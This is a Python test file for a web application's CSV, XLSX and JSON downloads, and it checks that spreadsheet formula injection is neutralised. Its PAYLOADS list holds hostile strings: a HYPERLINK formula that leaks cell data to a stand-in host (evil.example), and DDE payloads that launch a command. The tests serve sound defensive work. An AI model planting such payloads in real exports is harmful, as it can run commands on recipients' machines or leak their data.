"""Every CSV/XLSX download is formula-safe: exports, the public open data files and snapshots.

Text that a spreadsheet would run (= + - @, a tab or CR first, also after leading white space) arrives
with a leading ' in CSV and XLSX; XLSX cells are never formulas; JSON keeps the text as recorded.
"""
import csv
import datetime
import io
import zipfile

import openpyxl
import pytest

from rectrack.complaints.models import Recommendation
from rectrack.core import downloads
from rectrack.organisations.models import Organisation
from rectrack.publishing.snapshots import take_snapshot
from rectrack.responses import services
from rectrack.responses.models import Action, Response
from tests.support import record

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full response")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =HYPERLINK(\"http://evil.example\")",
    "\n@SUM(1)",
    "\u00a0\u2003+1",
]
SAFE = ["Implemented in full.", "2021-06-01 was the date", "e=mc2 is not a formula", ""]


def is_formula(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r")) or text.lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_quotes_every_would_be_formula(payload):
    assert is_formula(payload)
    assert downloads.neutralise(payload) == "'" + payload
    assert not is_formula(downloads.neutralise(payload))


@pytest.mark.parametrize("text", SAFE)
def test_neutralise_leaves_ordinary_text_alone(text):
    assert downloads.neutralise(text) == text


def test_cells_keep_numbers_and_booleans_and_join_lists():
    assert downloads.spreadsheet_cell(3) == 3
    assert downloads.csv_cell(True) == "true"
    assert downloads.csv_cell(None) == ""
    assert downloads.spreadsheet_cell(["=a", "b"]) == "'=a; b"
    assert downloads.spreadsheet_cell(datetime.date(2021, 6, 1)) == "2021-06-01"


# --- every download endpoint ----------------------------------------------------------------------


@pytest.fixture
def hostile(db, users):
    """Published responses, actions and organisation fields carrying every payload."""
    rec1 = Recommendation.objects.get(super_complaint_id="safe-to-share", number="1")
    forces = list(Organisation.objects.filter(kind="force").order_by("id")[:len(PAYLOADS)])
    responses = []
    for force, payload in zip(forces, PAYLOADS, strict=True):
        resp = services.create_response(user=users.inspector, recommendation=rec1, organisation=force, data={
            "position": "accepted", "progress": "in_progress", "narrative": "placeholder",
            "as_of": datetime.date(2021, 6, 1)})
        # Written with update() so that input validation (which may refuse control characters) cannot
        # hide what the writer does with such text if it is ever stored, e.g. by an older version.
        Response.objects.filter(pk=resp.pk).update(narrative=payload, owner=payload)
        Action.objects.create(response=resp, description=payload)
        responses += record.publish(resp)  # the public reads the published version, which copies all of it
    # Reference data that the inspectorate edits in the admin reaches the public table.
    Organisation.objects.filter(pk=forces[0].pk).update(name=PAYLOADS[0], region=PAYLOADS[6])
    return responses


def _csv_cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(data: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    # XlsxWriter escapes a CR as Excel does (_x000D_), which openpyxl leaves as it is.
    return [cell.value.replace("_x000D_", "\r") for cell in cells if isinstance(cell.value, str)]


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _check(cells: list[str], expected: list[str]) -> None:
    offenders = [c for c in cells if is_formula(c)]
    assert offenders == [], f"cells a spreadsheet would run: {offenders!r}"
    for payload in expected:
        assert "'" + payload in cells, f"{payload!r} is missing or not neutralised"


def _urls(snapshot_id: int) -> dict[str, tuple[str, list[str]]]:
    """Each download and the payloads it must carry (neutralised)."""
    return {
        "export responses": ("/exports/responses.{fmt}", PAYLOADS),
        "export actions": ("/exports/actions.{fmt}", PAYLOADS),
        "export organisations": ("/exports/organisations.{fmt}", [PAYLOADS[0], PAYLOADS[6]]),
        "public open data": ("/public/safe-to-share.{fmt}", [PAYLOADS[0], PAYLOADS[6]]),
        "snapshot": (f"/public/snapshots/{snapshot_id}.{{fmt}}", PAYLOADS),
    }


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_download_carries_a_formula(hostile, users, client_for, fmt):
    snapshot = take_snapshot(user=users.inspector, super_complaint=None)
    client = client_for(users.inspector)
    for name, (url, expected) in _urls(snapshot.pk).items():
        data = _body(client.get(url.format(fmt=fmt)))
        cells = _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)
        try:
            _check(cells, expected)
        except AssertionError as e:
            raise AssertionError(f"{name} ({fmt}): {e}") from None


def test_json_keeps_the_text_as_recorded(hostile, users, client_for):
    snapshot = take_snapshot(user=users.inspector, super_complaint=None)
    client = client_for(users.inspector)
    exported = _body(client.get("/exports/responses.json")).decode()
    frozen = _body(client.get(f"/public/snapshots/{snapshot.pk}.json")).decode()
    import json

    narratives = {r["narrative"] for r in json.loads(exported)}
    assert set(PAYLOADS) <= narratives
    assert set(PAYLOADS) <= {r["narrative"] for r in json.loads(frozen)["rows"]}


def test_xlsx_is_written_to_disk_not_memory(tmp_path, monkeypatch):
    """The workbook goes to a temporary file that is gone from the directory once it is open."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    rows = ({"a": f"=row{i}", "b": i} for i in range(2000))
    handle = downloads.xlsx_file(["a", "b"], rows, "sheet", meta={"title": "=x"})
    try:
        assert list(tmp_path.iterdir()) == []
        sheet, about = openpyxl.load_workbook(handle).worksheets
        assert sheet.max_row == 2001 and sheet["A2"].value == "'=row0" and sheet["B2"].value == 0
        assert about["B1"].value == "'=x"
    finally:
        handle.close()


def test_csv_stream_is_lazy():
    """The header leaves before any row is read; rows are read in batches."""
    read = []

    def rows():
        for i in range(3):
            read.append(i)
            yield {"a": i}

    stream = downloads.csv_stream(["a"], rows())
    assert next(stream) == "\ufeffa\r\n" and read == []
    assert "".join(stream) == "0\r\n1\r\n2\r\n"
